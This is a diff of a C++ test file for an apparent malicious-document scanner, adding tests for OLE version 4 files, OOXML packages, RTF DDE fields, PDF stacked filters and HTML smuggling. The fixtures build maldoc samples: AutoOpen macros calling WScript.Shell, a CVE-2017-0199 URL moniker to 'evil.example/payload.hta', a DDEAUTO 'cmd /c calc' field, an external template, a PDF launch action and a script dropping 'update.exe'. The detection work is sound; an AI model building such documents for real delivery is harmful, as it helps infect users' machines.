@@ -127,6 +127,7 @@ struct CfbEntry {
 
 class CfbWriter {
  public:
+  explicit CfbWriter(std::size_t sector = 512) : ss_(sector) {}
   int storage(std::string name, int parent = 0, std::string clsid = "") {
     entries_.push_back(CfbEntry{std::move(name), 1, parent, "", std::move(clsid)});
     return static_cast<int>(entries_.size());  // ids: root is 0, entries from 1
@@ -164,10 +165,10 @@ class CfbWriter {
     auto place = [&](const std::string& data) -> std::uint32_t {
       if (data.empty()) return kEnd;
       const std::uint32_t first = static_cast<std::uint32_t>(sectors.size());
-      const std::size_t count = (data.size() + 511) / 512;
+      const std::size_t count = (data.size() + ss_ - 1) / ss_;
       for (std::size_t k = 0; k < count; ++k) {
-        std::string s = data.substr(k * 512, 512);
-        s.resize(512, '\0');
+        std::string s = data.substr(k * ss_, ss_);
+        s.resize(ss_, '\0');
         sectors.push_back(s);
         fat.push_back(k + 1 < count ? first + static_cast<std::uint32_t>(k) + 1 : kEnd);
       }
@@ -183,7 +184,7 @@ class CfbWriter {
     for (std::uint32_t v : minifat) put32(minifat_bytes, v);
     const std::uint32_t minifat_start = place(minifat_bytes);
     const std::uint32_t minifat_count =
-        static_cast<std::uint32_t>((minifat_bytes.size() + 511) / 512);
+        static_cast<std::uint32_t>((minifat_bytes.size() + ss_ - 1) / ss_);
     // Directory: children of each storage chained through right siblings.
     std::vector<std::uint32_t> child(n, kNone), right(n, kNone);
     std::vector<std::uint32_t> last(n, kNone);
@@ -219,7 +220,7 @@ class CfbWriter {
       put32(e, 0);
       dir += e;
     }
-    while (dir.size() % 512) {
+    while (dir.size() % ss_) {
       std::string e(64, '\0');
       put16(e, 0);
       e += '\0';
@@ -235,25 +236,27 @@ class CfbWriter {
     }
     const std::uint32_t dir_start = place(dir);
     // FAT sectors cover everything including themselves.
+    const std::size_t per = ss_ / 4;
+    const std::size_t dir_sectors = dir.size() / ss_;
     std::size_t nfat = 1;
-    while ((sectors.size() + nfat) > nfat * 128) ++nfat;
+    while ((sectors.size() + nfat) > nfat * per) ++nfat;
     const std::uint32_t fat_start = static_cast<std::uint32_t>(sectors.size());
     for (std::size_t k = 0; k < nfat; ++k) fat.push_back(kFatSect);
-    fat.resize(nfat * 128, kFree);
+    fat.resize(nfat * per, kFree);
     for (std::size_t k = 0; k < nfat; ++k) {
       std::string s;
-      for (std::size_t j = 0; j < 128; ++j) put32(s, fat[k * 128 + j]);
+      for (std::size_t j = 0; j < per; ++j) put32(s, fat[k * per + j]);
       sectors.push_back(s);
     }
     std::string h("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
     h += std::string(16, '\0');
     put16(h, 0x3E);
-    put16(h, 3);
+    put16(h, ss_ == 4096 ? 4 : 3);
     put16(h, 0xFFFE);
-    put16(h, 9);
+    put16(h, ss_ == 4096 ? 12 : 9);
     put16(h, 6);
     h += std::string(6, '\0');
-    put32(h, 0);
+    put32(h, ss_ == 4096 ? static_cast<std::uint32_t>(dir_sectors) : 0);
     put32(h, static_cast<std::uint32_t>(nfat));
     put32(h, dir_start);
     put32(h, 0);
@@ -265,11 +268,13 @@ class CfbWriter {
     for (std::size_t k = 0; k < 109; ++k)
       put32(h, k < nfat ? fat_start + static_cast<std::uint32_t>(k) : kFree);
     EXPECT_EQ(h.size(), 512u);
+    h.resize(ss_, '\0');  // a version 4 header occupies a whole 4096-byte sector
     for (const std::string& s : sectors) h += s;
     return h;
   }
 
  private:
+  std::size_t ss_;
   std::vector<CfbEntry> entries_;
 };
 
@@ -566,6 +571,60 @@ TEST(InspectOle, EquationEditorByStreamAndClsid) {
   }
 }
 
+TEST(InspectOle, Version4With4096ByteSectors) {
+  CfbWriter w(4096);
+  const int vba = w.storage("VBA", w.storage("Macros"));
+  w.stream("dir", vba_dir_stream({{"NewMacros", 0}}), vba);
+  w.stream("NewMacros",
+           ovba_compress("Sub AutoOpen()\r\nCreateObject(\"WScript.Shell\")\r\nEnd Sub\r\n"), vba);
+  w.stream("Big", std::string(20000, 'b'));
+  const std::string file = w.build();
+  ASSERT_EQ(file.size() % 4096, 0u);
+  Probe r(file);
+  inspect_ole(r.blob(), *r.insp);
+  EXPECT_NE(r.detail("DOC_VBA_MACRO").find("NewMacros"), std::string::npos) << r.dump();
+  EXPECT_TRUE(r.has("DOC_VBA_AUTOEXEC"));
+  EXPECT_NE(r.detail("DOC_VBA_SUSPICIOUS").find("wscript.shell"), std::string::npos);
+}
+
+TEST(InspectOle, LinkedObjectWithUrlMoniker) {
+  // An "\x01Ole" stream of a linked object whose source is a URL moniker (CVE-2017-0199).
+  std::string ole;
+  put32(ole, 0x02000001);
+  put32(ole, 1);  // linked
+  put32(ole, 0);
+  put32(ole, 0);
+  put32(ole, 0);  // no reserved moniker
+  std::string moniker("\xE0\xC9\xEA\x79\xF9\xBA\xCE\x11\x8C\x82\x00\xAA\x00\x4B\xA9\x0B", 16);
+  const std::string url = "http://evil.example/payload.hta";
+  put32(moniker, static_cast<std::uint32_t>((url.size() + 1) * 2));
+  for (char c : url) put16(moniker, static_cast<unsigned char>(c));
+  put16(moniker, 0);
+  put32(ole, static_cast<std::uint32_t>(moniker.size()));
+  ole += moniker;
+  CfbWriter w;
+  w.stream("\x01Ole", ole);
+  w.stream(
+      "\x01"
+      "CompObj",
+      "OLE2Link");
+  Probe r(w.build());
+  inspect_ole(r.blob(), *r.insp);
+  EXPECT_TRUE(r.has("DOC_EXTERNAL_OLE_LINK")) << r.dump();
+  EXPECT_NE(r.detail("DOC_EXTERNAL_OLE_LINK").find("evil.example/payload.hta"), std::string::npos);
+  // An embedded (not linked) object's "\x01Ole" stream is ordinary.
+  std::string plain;
+  put32(plain, 0x02000001);
+  put32(plain, 0);
+  plain += std::string(12, '\0');
+  CfbWriter c;
+  c.stream("\x01Ole", plain);
+  c.stream("PROJECT", "Name of the project: quarterly figures");  // not a VBA PROJECT stream
+  Probe q(c.build());
+  inspect_ole(q.blob(), *q.insp);
+  expect_clean(q);
+}
+
 TEST(InspectOle, CorruptFilesStayBounded) {
   const std::string good = macro_doc("Sub AutoOpen()\r\nShell \"x\"\r\nEnd Sub\r\n");
   // Every truncation, and a FAT that loops on itself.
@@ -721,6 +780,73 @@ TEST(InspectOoxml, MacroEnabledContentTypes) {
   expect_clean(clean);
 }
 
+// A stored (uncompressed) zip, enough for an OOXML package through the whole chain.
+std::string zip(const std::vector<std::pair<std::string, std::string>>& members) {
+  std::string out, central;
+  for (const auto& [name, data] : members) {
+    const std::uint32_t crc = static_cast<std::uint32_t>(
+        crc32(0, reinterpret_cast<const Bytef*>(data.data()), static_cast<uInt>(data.size())));
+    const std::uint32_t offset = static_cast<std::uint32_t>(out.size());
+    auto header = [&](std::string& h, bool central_entry) {
+      put32(h, central_entry ? 0x02014b50 : 0x04034b50);
+      if (central_entry) put16(h, 20);
+      put16(h, 20);
+      put16(h, 0);  // flags
+      put16(h, 0);  // stored
+      put16(h, 0);
+      put16(h, 0x21);
+      put32(h, crc);
+      put32(h, static_cast<std::uint32_t>(data.size()));
+      put32(h, static_cast<std::uint32_t>(data.size()));
+      put16(h, static_cast<std::uint32_t>(name.size()));
+      put16(h, 0);
+      if (central_entry) {
+        put16(h, 0);
+        put16(h, 0);
+        put16(h, 0);
+        put32(h, 0);
+        put32(h, offset);
+      }
+      h += name;
+    };
+    header(out, false);
+    out += data;
+    header(central, true);
+  }
+  const std::uint32_t cd_offset = static_cast<std::uint32_t>(out.size());
+  out += central;
+  put32(out, 0x06054b50);
+  put16(out, 0);
+  put16(out, 0);
+  put16(out, static_cast<std::uint32_t>(members.size()));
+  put16(out, static_cast<std::uint32_t>(members.size()));
+  put32(out, static_cast<std::uint32_t>(central.size()));
+  put32(out, cd_offset);
+  put16(out, 0);
+  return out;
+}
+
+TEST(InspectOoxml, ThroughTheChainAsADocx) {
+  const std::string doc = zip({
+      {"[Content_Types].xml",
+       R"(<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>)"},
+      {"_rels/.rels",
+       R"(<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>)"},
+      {"word/document.xml",
+       R"(<w:document><w:body><w:p><w:fldSimple w:instr="DDEAUTO cmd &quot;/c calc&quot;"/></w:p></w:body></w:document>)"},
+      {"word/_rels/settings.xml.rels",
+       R"(<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>)"},
+      {"word/vbaProject.bin", macro_doc("Sub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n")},
+  });
+  Probe r(doc);
+  Blob b = r.blob("invoice.docm");
+  r.insp->inspect_blob(b);
+  EXPECT_TRUE(r.has_at("DOC_MACRO_ENABLED", "[Content_Types].xml")) << r.dump();
+  EXPECT_TRUE(r.has_at("DOC_DDE", "word/document.xml")) << r.dump();
+  EXPECT_TRUE(r.has_at("DOC_EXTERNAL_TEMPLATE", "settings.xml.rels")) << r.dump();
+  EXPECT_TRUE(r.has_at("DOC_VBA_AUTOEXEC", "vbaProject.bin")) << r.dump();
+}
+
 // ---------------------------------------------------------------------------------------
 // RTF
 
@@ -835,6 +961,13 @@ TEST(InspectRtf, DdeAutoField) {
       "calc\"}}{\\fldrslt x}}}");
   inspect_rtf(r.blob(), *r.insp);
   EXPECT_TRUE(r.has("DOC_DDE")) << r.dump();
+  // Line breaks in the source are not text: Word reads "DDEAUTO".
+  Probe s("{\\rtf1{\\field{\\*\\fldinst DDE\r\nAUTO cmd}{\\fldrslt x}}}");
+  inspect_rtf(s.blob(), *s.insp);
+  EXPECT_TRUE(s.has("DOC_DDE")) << s.dump();
+  Probe clean("{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"http://x/dde\"}{\\fldrslt x}}}");
+  inspect_rtf(clean.blob(), *clean.insp);
+  expect_clean(clean);
 }
 
 TEST(InspectRtf, BinAndUnterminatedInputsAreBounded) {
@@ -923,6 +1056,26 @@ TEST(InspectPdf, ActionsHiddenInObjectStream) {
   EXPECT_GT(r.results().expanded_bytes, 0u);
 }
 
+TEST(InspectPdf, StackedFilters) {
+  const std::string z = zlib_compress("1 0 << /Launch << /F (calc.exe) >> >>");
+  std::string hexed;
+  for (unsigned char c : z) {
+    static const char* d = "0123456789ABCDEF";
+    hexed += d[c >> 4];
+    hexed += d[c & 15];
+    hexed += ' ';
+  }
+  Probe r(
+      pdf({stream_obj("/Type /ObjStm /N 1 /First 4 /Filter [/AHx /FlateDecode]", hexed + ">")}));
+  inspect_pdf(r.blob(), *r.insp);
+  EXPECT_TRUE(r.has("PDF_LAUNCH")) << r.dump();
+  // ASCII85 of "1 0 << /AA << >> >>" (with the final partial group), no compression.
+  Probe a(pdf({stream_obj("/Type /ObjStm /N 1 /First 4 /Filter /ASCII85Decode",
+                          "0d&.m4?O`>5sZVU4<QgO+?hs~>")}));
+  inspect_pdf(a.blob(), *a.insp);
+  EXPECT_TRUE(a.has("PDF_AUTO_ACTION")) << a.dump();
+}
+
 TEST(InspectPdf, ObjectStreamWithIndirectLengthAndNoEol) {
   // /Length as a reference: the stream ends at "endstream".
   const std::string z = zlib_compress("1 0 << /OpenAction << /S /JavaScript /JS (x) >> >>");
@@ -954,7 +1107,8 @@ TEST(InspectPdf, EmbeddedFileIsExtracted) {
                "<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 3 0 R >> >>",
                stream_obj("/Type /EmbeddedFile /Filter /FlateDecode", zlib_compress(exe)),
                "<< /Type /Filespec /F (notes.txt) /EF << /F 5 0 R >> >>",
-               stream_obj("/Type /EmbeddedFile", "plain text\n")}));
+               stream_obj("/Params << /ModDate null >> /Hidden true /Type /EmbeddedFile",
+                          "plain text\n")}));
   inspect_pdf(r.blob("doc.pdf"), *r.insp);
   EXPECT_TRUE(r.has("PDF_EMBEDDED_FILE")) << r.dump();
   EXPECT_EQ(r.results().blobs, 2u) << r.dump();
@@ -1091,6 +1245,15 @@ TEST(InspectHtml, SmugglingWithPlusEqualsAndDefaultName) {
   inspect_html_attachment(r.blob("x.html"), *r.insp);
   EXPECT_TRUE(r.has("HTML_SMUGGLING")) << r.dump();
   EXPECT_TRUE(r.has_at("FILE_DANGEROUS_TYPE", "/smuggled.bin")) << r.dump();
+}
+
+TEST(InspectHtml, DataUriBuiltInScript) {
+  Probe r("<html><script>var u = \"data:application/octet-stream;base64," + base64(fake_exe(1500)) +
+          "\"; var a = document.createElement('a'); a.href = u; "
+          "a.download = 'update.exe'; a.click();</script></html>");
+  inspect_html_attachment(r.blob("x.html"), *r.insp);
+  EXPECT_TRUE(r.has("HTML_SMUGGLING")) << r.dump();
+  EXPECT_TRUE(r.has_at("FILE_DANGEROUS_TYPE", "/update.exe")) << r.dump();
 }
 
 TEST(InspectHtml, DataUriDownload) {
